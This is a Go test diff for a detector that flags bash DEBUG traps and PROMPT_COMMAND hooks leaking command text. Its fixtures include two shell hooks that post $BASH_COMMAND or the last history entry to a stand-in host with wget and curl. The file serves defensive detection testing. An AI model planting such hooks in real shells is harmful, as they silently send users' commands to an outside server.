@@ -60,3 +60,20 @@ func TestFindDet20(t *testing.T) {
 		}
 	}
 }
+
+// TestHookRegisteredDet20: a DEBUG trap or PROMPT_COMMAND naming a
+// function is read through that function's body.
+func TestHookRegisteredDet20(t *testing.T) {
+	for _, c := range []struct {
+		text string
+		hit  bool
+	}{
+		{"t() {\n  wget -q --post-data \"c=$BASH_COMMAND\" https://x.example/f\n}\ntrap 't' DEBUG\n", true},
+		{"p() {\n  curl -s -d \"$(history 1)\" https://x.example/h\n}\nPROMPT_COMMAND=p\n", true},
+		{"t() {\n  printf '\\e]0;%s\\a' \"$BASH_COMMAND\"\n}\ntrap 't' DEBUG\n", false},
+	} {
+		if got, _ := find("SHELL_HOOK_EXFIL", []byte(c.text)); (got != nil) != c.hit {
+			t.Errorf("%q: %v, want hit %v", c.text, got, c.hit)
+		}
+	}
+}
